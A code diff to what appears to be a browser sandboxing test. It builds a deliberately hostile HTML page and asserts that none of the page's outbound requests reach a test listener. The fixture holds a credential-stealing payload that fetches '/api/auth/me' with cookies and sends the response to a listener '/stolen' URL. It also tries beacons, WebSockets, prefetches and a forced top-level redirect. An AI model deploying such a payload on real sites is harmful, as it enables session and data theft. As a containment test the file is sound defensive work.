@@ -17,7 +17,7 @@ const AFTERMATH_MS = 500;
 const hostile = (listener: string): string => `<!doctype html>
 <html><head>
 <title>untouched</title>
-<meta http-equiv="refresh" content="1;url=${listener}/refresh">
+<meta http-equiv="refresh" content="3;url=${listener}/refresh">
 <link rel="stylesheet" href="${listener}/style.css">
 <link rel="preload" as="script" href="${listener}/preload.js">
 <link rel="prefetch" href="${listener}/prefetch">
@@ -32,10 +32,9 @@ const hostile = (listener: string): string => `<!doctype html>
   try { document.title += ' parent:' + parent.document.title; } catch (error) { document.title += ' no-parent'; }
   fetch('/api/auth/me', { credentials: 'include' }).then((answer) => answer.text()).then((text) => {
     new Image().src = '${listener}/stolen?' + encodeURIComponent(text);
-  });
+  }).finally(() => setTimeout(() => { top.location = '${listener}/top'; }, 500));
   navigator.sendBeacon('${listener}/beacon', 'x');
   new WebSocket('${listener.replace('http', 'ws')}/socket');
-  setTimeout(() => { top.location = '${listener}/top'; }, 500);
 </script>
 </head>
 <body onload="document.title = 'onload'">
@@ -144,7 +143,7 @@ inBrowser(CHROMIUM === null ? `${title} (skipped: no Chromium; name one in CHROM
     expect(await page.locator('#shown').innerText()).toBe('All green');
     await page.locator('button').click();
     await page.locator('a').click();
-    await page.waitForTimeout(1_000 + AFTERMATH_MS);
+    await page.waitForTimeout(3_000 + AFTERMATH_MS);
     expect([await page.title(), page.url()]).toEqual(['untouched', text]);
     expect(await page.evaluate('getComputedStyle(document.body).color')).toBe('rgb(0, 0, 0)');
     expect([requested, sockets.reduce((sum, { bytesRead }) => sum + bytesRead, 0)]).toEqual([[], 0]);
